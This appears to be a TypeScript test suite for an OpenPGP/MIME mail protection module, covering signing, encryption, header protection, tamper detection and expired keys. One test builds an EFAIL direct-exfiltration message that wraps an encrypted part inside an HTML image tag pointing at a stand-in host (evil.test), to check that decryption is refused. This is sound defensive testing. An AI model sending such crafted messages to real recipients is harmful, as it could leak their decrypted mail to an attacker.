import * as openpgp from 'openpgp';
import { beforeAll, describe, expect, it } from 'vitest';
import { MailError } from '../../kernel/index.ts';
import { getHeader, parseHeaders, splitHeaderBlock } from '../../mail/index.ts';
import { openpgpProtector } from './protector.ts';
import { mdcLessMessage, sampleMessage, testUser, type TestUser } from './test-keys.ts';
import { multipartParts, parseContentType, splitEntity } from './mime.ts';

const now = new Date('2026-12-02T10:00:00Z');
let alice: TestUser;
let bob: TestUser;
let mallory: TestUser;

beforeAll(async () => {
  [alice, bob, mallory] = await Promise.all([testUser('alice@sender.test', now), testUser('bob@rcpt.test', now), testUser('mallory@evil.test', now)]);
});

function headersOf(message: Uint8Array) {
  const buf = Buffer.from(message);
  return parseHeaders(buf.subarray(0, splitHeaderBlock(buf)!.headerEnd).toString('latin1'));
}

describe('openpgpProtector', () => {
  it('signs as multipart/signed with micalg naming the hash used (pgp-sha512: OpenPGP.js takes at least SHA-512 for EdDSA-legacy keys), the headers protected in the clear (hp="clear"), the signing time inside', async () => {
    const out = await openpgpProtector.protect(sampleMessage(alice.address, bob.address), { sign: true, encrypt: false, recipients: [], signer: alice.secret, now });
    const top = splitEntity(Buffer.from(out));
    const type = parseContentType(getHeader(top.headers, 'Content-Type'));
    expect(type.type).toBe('multipart/signed');
    expect(type.params.get('micalg')).toBe('pgp-sha512');
    expect(type.params.get('protocol')).toBe('application/pgp-signature');
    expect(getHeader(top.headers, 'Subject')).toBe('Quarterly numbers');
    const [signed] = multipartParts(top.body, type.params.get('boundary')!)!;
    const inner = splitEntity(signed);
    expect(parseContentType(getHeader(inner.headers, 'Content-Type')).params.get('hp')).toBe('clear');
    expect(getHeader(inner.headers, 'Subject')).toBe('Quarterly numbers');
    expect(inner.headers.filter((h) => h.name === 'HP-Outer').map((h) => h.value)).toContain('Subject: Quarterly numbers');
    expect(getHeader(inner.headers, 'Received')).toBeUndefined();

    const result = await openpgpProtector.unprotect(out, { decryptionKeys: [], verificationKeys: [alice.public], now });
    expect(result.signature).toEqual({ state: 'valid', signer: alice.address, keyId: alice.fingerprint, signedAt: now });
    expect(result.decrypted).toBe(false);
    const restored = headersOf(result.message);
    expect(getHeader(restored, 'Subject')).toBe('Quarterly numbers');
    expect(getHeader(restored, 'Content-Type')).toBe('multipart/alternative; boundary=b1');
    expect(restored.some((h) => h.name === 'HP-Outer')).toBe(false);
  });

  it('encrypts as multipart/encrypted with Version: 1, outer Subject "...", and restores the real headers', async () => {
    const out = await openpgpProtector.protect(sampleMessage(alice.address, bob.address), { sign: false, encrypt: true, recipients: [bob.public, alice.public], now });
    const text = Buffer.from(out).toString('latin1');
    expect(text).not.toContain('Quarterly');
    expect(text).not.toContain('numbers are in');
    const top = splitEntity(Buffer.from(out));
    expect(getHeader(top.headers, 'Subject')).toBe('...');
    expect(getHeader(top.headers, 'Message-ID')).toBe('<m1@example.test>');
    expect(getHeader(top.headers, 'Received')).toContain('client.example');
    const type = parseContentType(getHeader(top.headers, 'Content-Type'));
    expect(type.type).toBe('multipart/encrypted');
    const parts = multipartParts(top.body, type.params.get('boundary')!)!;
    expect(parts[0].toString()).toContain('Content-Type: application/pgp-encrypted');
    expect(parts[0].toString()).toMatch(/\r\n\r\nVersion: 1\r\n$/);

    for (const reader of [bob, alice]) {
      const result = await openpgpProtector.unprotect(out, { decryptionKeys: [reader.secret], verificationKeys: [], now });
      expect(result.decrypted).toBe(true);
      expect(result.signature).toBeNull();
      const restored = headersOf(result.message);
      expect(getHeader(restored, 'Subject')).toBe('Quarterly numbers');
      expect(restored.filter((h) => h.name.toLowerCase() === 'subject')).toHaveLength(1);
      expect(getHeader(restored, 'Received')).toContain('client.example');
      expect(Buffer.from(result.message).toString()).toContain('The numbers are in. Grüße.');
    }
    await expect(openpgpProtector.unprotect(out, { decryptionKeys: [mallory.secret], verificationKeys: [], now })).rejects.toThrow(/cannot be decrypted/);
  });

  it('signs inside the encryption; a wrong or missing certificate gives invalid / unknown-key', async () => {
    const out = await openpgpProtector.protect(sampleMessage(alice.address, bob.address), { sign: true, encrypt: true, recipients: [bob.public], signer: alice.secret, now });
    const good = await openpgpProtector.unprotect(out, { decryptionKeys: [bob.secret], verificationKeys: [alice.public], now });
    expect(good.signature).toEqual({ state: 'valid', signer: alice.address, keyId: alice.fingerprint, signedAt: now });
    const unknown = await openpgpProtector.unprotect(out, { decryptionKeys: [bob.secret], verificationKeys: [mallory.public], now });
    expect(unknown.signature?.state).toBe('unknown-key');
  });

  it('a tampered signed message gets an invalid verdict that says it was changed', async () => {
    const out = Buffer.from(await openpgpProtector.protect(sampleMessage(alice.address, bob.address), { sign: true, encrypt: false, recipients: [], signer: alice.secret, now })).toString('latin1');
    const tampered = out.replace('The numbers are in.', 'The numbers are out');
    expect(tampered).not.toBe(out);
    const result = await openpgpProtector.unprotect(Buffer.from(tampered, 'latin1'), { decryptionKeys: [], verificationKeys: [alice.public], now });
    expect(result.signature?.state).toBe('invalid');
    expect(result.signature?.state === 'invalid' && result.signature.reason).toMatch(/changed after it was signed/);
    // The protected (inner) Subject changed: invalid. The outer one changed: the signed one comes back.
    const at = out.lastIndexOf('Subject: Quarterly numbers');
    const inner = Buffer.from(`${out.slice(0, at)}Subject: Quarterly numberz${out.slice(at + 26)}`, 'latin1');
    expect((await openpgpProtector.unprotect(inner, { decryptionKeys: [], verificationKeys: [alice.public], now })).signature?.state).toBe('invalid');
    const outer = await openpgpProtector.unprotect(Buffer.from(out.replace('Subject: Quarterly numbers', 'Subject: Pay now'), 'latin1'), { decryptionKeys: [], verificationKeys: [alice.public], now });
    expect(outer.signature?.state).toBe('valid');
    expect(getHeader(headersOf(outer.message), 'Subject')).toBe('Quarterly numbers');
  });

  it('refuses an encrypted message without integrity protection (SED, no MDC) with 550 5.7.1 from e2e', async () => {
    const armored = await mdcLessMessage(bob.public.data, Buffer.from('Content-Type: text/plain\r\n\r\nsecret\r\n'));
    const message = openpgp.enums.packet.symmetricallyEncryptedData;
    expect((await openpgp.readMessage({ armoredMessage: armored })).packets.some((p) => (p.constructor as { tag?: number }).tag === message)).toBe(true);
    const mail = Buffer.from(['From: <x@evil.test>', 'To: <bob@rcpt.test>', 'Subject: hi', 'MIME-Version: 1.0', 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e"', '', '--e', 'Content-Type: application/pgp-encrypted', '', 'Version: 1', '', '--e', 'Content-Type: application/octet-stream', '', armored, '--e--', ''].join('\r\n'));
    const error = await openpgpProtector.unprotect(mail, { decryptionKeys: [bob.secret], verificationKeys: [], now }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(MailError);
    expect(error).toMatchObject({ code: 550, enhanced: '5.7.1', module: 'e2e' });
  });

  it('never decrypts an encrypted part nested among cleartext parts (EFAIL direct exfiltration)', async () => {
    const encrypted = Buffer.from(await openpgpProtector.protect(sampleMessage(alice.address, bob.address), { sign: false, encrypt: true, recipients: [bob.public], now }));
    const entity = splitEntity(encrypted);
    const part = Buffer.concat([Buffer.from(`Content-Type: ${getHeader(entity.headers, 'Content-Type')}\r\n\r\n`), entity.body]);
    const efail = Buffer.concat([Buffer.from('From: <x@evil.test>\r\nTo: <bob@rcpt.test>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="o"\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/?\r\n--o\r\n'), part, Buffer.from('\r\n--o\r\nContent-Type: text/html\r\n\r\n">\r\n--o--\r\n')]);
    const result = await openpgpProtector.unprotect(efail, { decryptionKeys: [bob.secret], verificationKeys: [], now });
    expect(result.decrypted).toBe(false);
    expect(Buffer.from(result.message).toString()).not.toContain('numbers are in');
  });

  it('refuses to encrypt to an expired key and to sign with one', async () => {
    const old = await testUser('old@rcpt.test', new Date('2020-01-01T00:00:00Z'), 'rfc4880', 3600);
    await expect(openpgpProtector.protect(sampleMessage(alice.address, old.address), { sign: false, encrypt: true, recipients: [old.public], now })).rejects.toThrow(/cannot encrypt now \(expired\)/);
    await expect(openpgpProtector.protect(sampleMessage(old.address, bob.address), { sign: true, encrypt: false, recipients: [], signer: old.secret, now })).rejects.toThrow(/cannot sign now/);
  });

  it('works with v6 (RFC 9580) keys too', async () => {
    const carol = await testUser('carol@rcpt.test', now, 'rfc9580');
    const out = await openpgpProtector.protect(sampleMessage(alice.address, carol.address), { sign: true, encrypt: true, recipients: [carol.public], signer: carol.secret, now });
    const result = await openpgpProtector.unprotect(out, { decryptionKeys: [carol.secret], verificationKeys: [carol.public], now });
    expect(result.signature?.state).toBe('valid');
    expect(getHeader(headersOf(result.message), 'Subject')).toBe('Quarterly numbers');
  });

  it('passes a message that is not PGP/MIME through unchanged', async () => {
    const plain = sampleMessage(alice.address, bob.address);
    const result = await openpgpProtector.unprotect(plain, { decryptionKeys: [bob.secret], verificationKeys: [], now });
    expect(Buffer.from(result.message).equals(plain)).toBe(true);
    expect(result.signature).toBeNull();
  });
});
